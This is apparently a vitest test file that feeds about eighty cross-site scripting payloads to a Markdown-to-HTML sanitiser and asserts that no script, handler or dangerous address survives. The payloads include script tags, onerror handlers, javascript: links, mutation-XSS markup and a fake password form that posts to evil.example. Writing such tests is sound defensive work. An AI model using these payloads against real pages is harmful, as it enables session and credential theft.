import { describe, expect, it } from 'vitest';
import { markdownHtml } from '#client/ui/markdownHtml.ts';

/** Attacks that run a script, leave or cover the page, or send data, by the feature they use. */
const ATTACKS: Record<string, readonly string[]> = {
  'script elements': [
    '<script>steal()</script>',
    '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
    '<scr<script>ipt>steal()</scr</script>ipt>',
    '<script\n>steal()</script\t>',
    '<svg><script>steal()</script></svg>',
    '<svg><script href="data:text/javascript,steal()" /></svg>',
    '<math><mtext><script>steal()</script></mtext></math>',
    '<noscript><p title="</noscript><script>steal()</script>">',
    '<template><script>steal()</script></template>',
    '<!--><script>steal()</script-->',
    '<![CDATA[<script>steal()</script>]]>',
    '<?xml version="1.0"?><script>steal()</script>',
    '<xmp><script>steal()</script></xmp>',
    '<plaintext><script>steal()</script>',
  ],
  'event handlers': [
    '<img src=x onerror=steal()>',
    '<img src=x OnErRoR="steal()">',
    '<img src=x onerror\n=\nsteal()>',
    '<img/src=x/onerror=steal()>',
    '<img src="x` `<script>steal()</script>"` `>',
    '<svg onload=steal()>',
    '<svg/onload=steal()//',
    '<body onload=steal()>',
    '<details open ontoggle=steal()>text</details>',
    '<video><source onerror=steal()></video>',
    '<audio src=x onerror=steal()></audio>',
    '<marquee onstart=steal()>text</marquee>',
    '<a href="#" onclick=steal()>text</a>',
    '<p onpointerenter=steal()>text</p>',
    '<div onanimationstart=steal()>text</div>',
    '<math><mi xlink:href="x" onclick="steal()">text</mi></math>',
    '![text](x" onerror="steal())',
    '[text](x " onclick="steal()")',
  ],
  'addresses that are scripts': [
    '[text](javascript:steal())',
    '[text](JaVaScRiPt:steal())',
    '[text](&#106;avascript:steal())',
    '[text](java&Tab;script:steal())',
    '[text](java\nscript:steal())',
    '[text](\u0001javascript:steal())',
    '[text](vbscript:steal())',
    '[text](data:text/html,<script>steal()</script>)',
    '[text](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)',
    '[text][way]\n\n[way]: javascript:steal()',
    '<javascript:steal()>',
    '![text](javascript:steal())',
    '<a href="javascript:steal()">text</a>',
    '<a href=" &#14; javascript:steal()">text</a>',
    '<a href="jav&#x0A;ascript:steal()">text</a>',
    '<svg><a xlink:href="javascript:steal()"><text>text</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:steal() /></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=steal()></svg>#x" /></svg>',
    '<math href="javascript:steal()">text</math>',
    '<area href="javascript:steal()">',
    '<img src="javascript:steal()">',
    '<video poster="javascript:steal()"></video>',
  ],
  'other documents': [
    '<iframe src="javascript:steal()"></iframe>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<object data="javascript:steal()"></object>',
    '<embed src="javascript:steal()">',
    '<frameset><frame src="javascript:steal()"></frameset>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<link rel="import" href="//evil.example/x.html">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:steal()">',
    '<portal src="//evil.example/"></portal>',
  ],
  'forms and covers': [
    '<form action="//evil.example/"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:steal()">text</button>',
    '<input autofocus onfocus=steal()>',
    '<select autofocus onfocus=steal()></select>',
    '<textarea autofocus onfocus=steal()></textarea>',
    '<div style="position:fixed;inset:0;background:url(javascript:steal())">text</div>',
    '<style>@import "//evil.example/x.css"; * { background: url(javascript:steal()) }</style>',
    '<div class="mantine-Modal-root">text</div>',
    '<dialog open>text</dialog>',
    '<isindex type=image src=x onerror=steal()>',
  ],
  'markup that changes when it is read again': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>',
    '<svg></p><style><a id="</style><img src=x onerror=steal()>">',
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=steal()>"></desc></svg>',
    '<table><td><select><img src=x onerror=steal()></select></td></table>',
    '<p id="a<svg/onload=steal()>">text</p>',
    '`<img src=x onerror=steal()>`<img src=x onerror=steal()>',
    '```\n</code></pre><img src=x onerror=steal()>\n```',
  ],
};

const NEVER =
  'script,iframe,object,embed,frame,frameset,link,base,meta,style,form,input,button,select,textarea,dialog,svg,math,template';
const ADDRESSES = ['href', 'src', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'srcdoc'];
const rows = Object.entries(ATTACKS).flatMap(([kind, texts]) => texts.map((text) => [kind, text] as const));

/** The document that a browser makes of the HTML. Parsed twice, because some attacks take effect only then. */
function shown(text: string): Element {
  const page = document.createElement('div');
  page.innerHTML = markdownHtml(text);
  const again = document.createElement('div');
  again.innerHTML = page.innerHTML;
  return again;
}

describe('a record’s Markdown or HTML', () => {
  it.each(rows)('does no harm by %s: %s', (_kind, text) => {
    const page = shown(text);
    expect([...page.querySelectorAll(NEVER)].map(({ tagName }) => tagName)).toEqual([]);
    for (const element of page.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^class$|^autofocus$|^tabindex$/);
        if (!ADDRESSES.includes(name)) continue;
        // Browsers ignore these characters before and within a scheme.
        const address = [...value].filter((character) => character > ' ').join('');
        expect(address).not.toMatch(/^(javascript|vbscript|data:(?!image\/))/i);
      }
    }
  });

  it('cannot clobber what the page’s scripts read', () => {
    const page = shown('<a id="cookie" name="body">text</a><img name="getElementById">');
    const names = [...page.querySelectorAll('[id],[name]')].flatMap((one) => [
      one.getAttribute('id'),
      one.getAttribute('name'),
    ]);
    expect(names.filter((name) => name !== null && !name.startsWith('user-content-'))).toEqual([]);
  });

  it('opens links without a referrer or opener, and loads images without a referrer', () => {
    const page = shown('[text](https://example.org "title") ![cat](https://example.org/cat.png)');
    const link = page.querySelector('a')!;
    expect([link.getAttribute('target'), link.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer']);
    expect(page.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('keeps its harmless features', () => {
    const page = shown(
      '# Title\n\n**bold** `code` <kbd>K</kbd>\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<video src="a.mp4" controls></video>',
    );
    for (const tag of ['h3', 'strong', 'code', 'kbd', 'li', 'table', 'video'])
      expect(page.querySelector(tag)).not.toBeNull();
  });
});
